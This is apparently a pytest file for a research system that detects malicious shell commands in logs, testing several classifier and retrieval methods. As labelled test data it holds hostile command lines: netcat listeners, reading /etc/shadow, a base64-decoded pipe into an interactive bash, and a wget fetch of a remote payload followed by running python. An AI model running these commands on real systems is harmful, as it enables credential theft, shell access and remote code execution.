"""Tests for the four Section-IV adaptation methods."""

from datetime import datetime, timedelta

import numpy as np
import pytest

from repro.errors import NotFittedError
from repro.loggen import CommandDataset, LogRecord
from repro.tuning import (
    ClassificationTuner,
    LabeledDataset,
    MajorityVoteKNN,
    MultiLineClassificationTuner,
    MultiLineComposer,
    ReconstructionTuner,
    RetrievalDetector,
    ScoreEnsemble,
    label_with_ids,
    rank_normalize,
)
from repro.ids import CommercialIDS

UNSEEN_MALICIOUS = ["nc -lvnp 31337", "cat /etc/shadow", "echo ZXZpbA== | base64 -d | bash -i"]
UNSEEN_BENIGN = ["ls -la /opt", "docker ps", "git status"]


class TestLabeledDataset:
    def test_validates_alignment(self):
        with pytest.raises(Exception):
            LabeledDataset(["a"], np.array([0, 1]))

    def test_validates_binary(self):
        with pytest.raises(Exception):
            LabeledDataset(["a"], np.array([2]))

    def test_positives_subset(self):
        data = LabeledDataset(["a", "b", "c"], np.array([0, 1, 1]))
        assert data.positives().lines == ["b", "c"]
        assert data.n_positive == 2

    def test_subsample_keeps_positives(self):
        lines = [f"benign-{i}" for i in range(100)] + ["evil"]
        labels = np.array([0] * 100 + [1])
        data = LabeledDataset(lines, labels)
        sub = data.subsample(10, np.random.default_rng(0))
        assert "evil" in sub.lines
        assert len(sub) == 10

    def test_subsample_noop_when_large_enough(self):
        data = LabeledDataset(["a", "b"], np.array([0, 1]))
        assert data.subsample(10, np.random.default_rng(0)) is data

    def test_label_with_ids(self):
        ids = CommercialIDS(label_noise=0.0)
        data = label_with_ids(["ls", "cat /etc/shadow"], ids)
        np.testing.assert_array_equal(data.labels, [0, 1])


class TestClassificationTuner:
    def test_separates_unseen_attacks(self, tuning_world):
        encoder, lines, labels = tuning_world
        tuner = ClassificationTuner(encoder, lr=1e-2, epochs=8, pooling="mean", seed=0)
        tuner.fit(lines, labels)
        mal = tuner.score(UNSEEN_MALICIOUS)
        ben = tuner.score(UNSEEN_BENIGN)
        assert mal.mean() > ben.mean() + 0.3

    def test_scores_are_probabilities(self, tuning_world):
        encoder, lines, labels = tuning_world
        tuner = ClassificationTuner(encoder, lr=1e-2, epochs=3, pooling="mean", seed=0)
        tuner.fit(lines, labels)
        scores = tuner.score(UNSEEN_BENIGN + UNSEEN_MALICIOUS)
        assert (scores >= 0).all() and (scores <= 1).all()

    def test_loss_history_decreases(self, tuning_world):
        encoder, lines, labels = tuning_world
        tuner = ClassificationTuner(encoder, lr=1e-2, epochs=8, pooling="mean", seed=0)
        tuner.fit(lines, labels)
        assert tuner.history[-1] < tuner.history[0]

    def test_head_scores_are_bit_equal_to_the_tape(self, tuning_world):
        from repro.nn.tensor import Tensor

        encoder, lines, labels = tuning_world
        tuner = ClassificationTuner(encoder, lr=1e-2, epochs=2, pooling="mean", seed=0)
        tuner.fit(lines, labels)
        rng = np.random.default_rng(0)
        for rows in (1, 2, 7, 32):
            for dtype in (np.float64, np.float32):
                embeddings = (3.0 * rng.standard_normal((rows, encoder.embedding_dim))).astype(dtype)
                logits = tuner.head(Tensor(embeddings)).data
                shifted = np.exp(logits - logits.max(axis=1, keepdims=True))
                tape = (shifted / shifted.sum(axis=1, keepdims=True))[:, 1]
                assert np.array_equal(tuner.score_embeddings(embeddings), tape)

    def test_requires_positive_labels(self, tuning_world):
        encoder, lines, _ = tuning_world
        tuner = ClassificationTuner(encoder)
        with pytest.raises(ValueError):
            tuner.fit(lines[:10], np.zeros(10, dtype=int))

    def test_unfitted_raises(self, tuning_world):
        encoder, _, _ = tuning_world
        with pytest.raises(NotFittedError):
            ClassificationTuner(encoder).score(["ls"])

    def test_predict_thresholding(self, tuning_world):
        encoder, lines, labels = tuning_world
        tuner = ClassificationTuner(encoder, lr=1e-2, epochs=5, pooling="mean", seed=0)
        tuner.fit(lines, labels)
        decisions = tuner.predict(UNSEEN_MALICIOUS + UNSEEN_BENIGN)
        assert set(decisions) <= {0, 1}

    def test_deterministic_given_seed(self, tuning_world):
        encoder, lines, labels = tuning_world
        a = ClassificationTuner(encoder, lr=1e-2, epochs=2, pooling="mean", seed=3).fit(lines, labels)
        b = ClassificationTuner(encoder, lr=1e-2, epochs=2, pooling="mean", seed=3).fit(lines, labels)
        np.testing.assert_allclose(a.score(UNSEEN_BENIGN), b.score(UNSEEN_BENIGN))

    def test_epochs_validation(self, tuning_world):
        encoder, _, _ = tuning_world
        with pytest.raises(ValueError):
            ClassificationTuner(encoder, epochs=0)


class TestRetrieval:
    def test_identical_line_scores_near_one(self, tuning_world):
        encoder, lines, labels = tuning_world
        detector = RetrievalDetector(encoder, k=1).fit(lines, labels)
        assert detector.score(["nc -lvnp 4444"])[0] > 0.99

    def test_known_attack_outscores_benign(self, tuning_world):
        encoder, lines, labels = tuning_world
        detector = RetrievalDetector(encoder, k=1).fit(lines, labels)
        attack_score = detector.score(["nc -lvnp 4444"])[0]
        assert (detector.score(UNSEEN_BENIGN) < attack_score).all()

    def test_needs_malicious_training_lines(self, tuning_world):
        encoder, lines, _ = tuning_world
        with pytest.raises(ValueError):
            RetrievalDetector(encoder).fit(lines[:5], np.zeros(5, dtype=int))

    def test_chunking_consistent(self, tuning_world):
        encoder, lines, labels = tuning_world
        small = RetrievalDetector(encoder, k=2, chunk_size=2).fit(lines, labels)
        large = RetrievalDetector(encoder, k=2, chunk_size=4096).fit(lines, labels)
        queries = UNSEEN_MALICIOUS + UNSEEN_BENIGN
        np.testing.assert_allclose(small.score(queries), large.score(queries))

    def test_k_validation(self, tuning_world):
        encoder, _, _ = tuning_world
        with pytest.raises(ValueError):
            RetrievalDetector(encoder, k=0)


class TestMajorityVoteKNN:
    def test_label_noise_hurts_vanilla_more(self, tuning_world):
        """The Sec. IV-D story: flip some malicious labels to benign; the
        majority-vote method loses detections, the modified one does not."""
        encoder, lines, labels = tuning_world
        noisy = labels.copy()
        malicious_idx = np.nonzero(noisy == 1)[0]
        noisy[malicious_idx[::2]] = 0  # 50% of malicious labels dropped
        vanilla = MajorityVoteKNN(encoder, k=5).fit(lines, noisy)
        modified = RetrievalDetector(encoder, k=1).fit(lines, noisy)
        target = ["nc -lvnp 4444"]
        assert modified.score(target)[0] > 0.9
        # vanilla zeroes out when benign-labeled duplicates win the vote
        assert vanilla.score(target)[0] < modified.score(target)[0]

    def test_benign_majority_scores_zero(self, tuning_world):
        encoder, lines, labels = tuning_world
        detector = MajorityVoteKNN(encoder, k=5).fit(lines, labels)
        assert detector.score(["ls -la /tmp"])[0] == 0.0


class TestReconstructionTuner:
    def test_raises_labeled_intrusion_scores(self, tuning_world):
        encoder, lines, labels = tuning_world
        tuner = ReconstructionTuner(encoder, n_rounds=2, steps_per_round=10, seed=0)
        tuner.fit(lines, labels)
        mal = tuner.score(UNSEEN_MALICIOUS)
        ben = tuner.score(UNSEEN_BENIGN)
        assert np.median(mal) > np.median(ben)

    def test_backbone_clone_keeps_shared_model_intact(self, tuning_world):
        encoder, lines, labels = tuning_world
        before = encoder.embed(["ls -la /tmp"])
        tuner = ReconstructionTuner(encoder, n_rounds=1, steps_per_round=5, seed=0)
        tuner.fit(lines, labels)
        after = encoder.embed(["ls -la /tmp"])
        np.testing.assert_array_equal(before, after)

    def test_requires_positive_labels(self, tuning_world):
        encoder, lines, _ = tuning_world
        tuner = ReconstructionTuner(encoder, n_rounds=1, steps_per_round=2)
        with pytest.raises(ValueError):
            tuner.fit(lines[:5], np.zeros(5, dtype=int))

    def test_parameter_validation(self, tuning_world):
        encoder, _, _ = tuning_world
        with pytest.raises(ValueError):
            ReconstructionTuner(encoder, n_rounds=0)
        with pytest.raises(ValueError):
            ReconstructionTuner(encoder, positives_per_batch=24, batch_size=24)

    def test_unfitted_raises(self, tuning_world):
        encoder, _, _ = tuning_world
        with pytest.raises(NotFittedError):
            ReconstructionTuner(encoder).score(["ls"])


class TestMultiLine:
    def _dataset(self):
        start = datetime(2022, 5, 29, 12, 0, 0)
        rows = [
            ("u1", "wget -c http://203.0.113.4/payload -o python", True),
            ("u1", "python", True),
            ("u2", "ls -la", False),
            ("u1", "echo done", False),
            ("u2", "git status", False),
        ]
        records = [
            LogRecord(line, user, "m1", start + timedelta(seconds=30 * i), session="s1",
                      is_malicious=mal)
            for i, (user, line, mal) in enumerate(rows)
        ]
        return CommandDataset(records)

    def test_composition_uses_same_user_history(self):
        composer = MultiLineComposer(window=3)
        samples = composer.compose(self._dataset())
        assert samples[1].text == "wget -c http://203.0.113.4/payload -o python ; python"
        assert samples[2].text == "ls -la"  # u2 has no history
        assert samples[3].n_context == 2

    def test_max_gap_expires_history(self):
        composer = MultiLineComposer(window=3, max_gap=timedelta(seconds=10))
        samples = composer.compose(self._dataset())
        assert samples[1].n_context == 0  # 30s gap > 10s window

    def test_window_one_is_single_line(self):
        composer = MultiLineComposer(window=1)
        samples = composer.compose(self._dataset())
        assert all(s.n_context == 0 for s in samples)

    def test_window_validation(self):
        with pytest.raises(ValueError):
            MultiLineComposer(window=0)

    def test_fit_and_score_dataset(self, tuning_world):
        encoder, _, _ = tuning_world
        dataset = self._dataset()
        labels = dataset.labels()
        tuner = MultiLineClassificationTuner(encoder, lr=1e-2, epochs=4, pooling="mean", seed=0)
        tuner.fit_dataset(dataset, labels)
        scores = tuner.score_dataset(dataset)
        assert scores.shape == (len(dataset),)

    def test_label_alignment_validated(self, tuning_world):
        encoder, _, _ = tuning_world
        tuner = MultiLineClassificationTuner(encoder)
        with pytest.raises(ValueError):
            tuner.fit_dataset(self._dataset(), np.array([1, 0]))


class TestEnsemble:
    def test_rank_normalize_monotone(self):
        scores = np.array([0.1, 5.0, 2.0])
        normalized = rank_normalize(scores)
        assert normalized[1] > normalized[2] > normalized[0]
        assert (normalized > 0).all() and (normalized <= 1).all()

    def test_rank_normalize_ties_share_rank(self):
        normalized = rank_normalize(np.array([1.0, 1.0, 2.0]))
        assert normalized[0] == normalized[1]

    def test_rank_normalize_empty(self):
        assert rank_normalize(np.array([])).size == 0

    def test_ensemble_combines_fitted_members(self, tuning_world):
        encoder, lines, labels = tuning_world
        clf = ClassificationTuner(encoder, lr=1e-2, epochs=4, pooling="mean", seed=0).fit(lines, labels)
        ret = RetrievalDetector(encoder, k=1).fit(lines, labels)
        ensemble = ScoreEnsemble([clf, ret])
        scores = ensemble.score(UNSEEN_MALICIOUS + UNSEEN_BENIGN)
        assert scores[:3].mean() > scores[3:].mean()

    def test_max_aggregation(self, tuning_world):
        encoder, lines, labels = tuning_world
        ret = RetrievalDetector(encoder, k=1).fit(lines, labels)
        ensemble = ScoreEnsemble([ret], aggregation="max")
        assert ensemble.score(["nc -lvnp 4444"])[0] > 0.9

    def test_validation(self):
        with pytest.raises(ValueError):
            ScoreEnsemble([])
        with pytest.raises(ValueError):
            ScoreEnsemble([object()], aggregation="median")  # type: ignore[list-item]
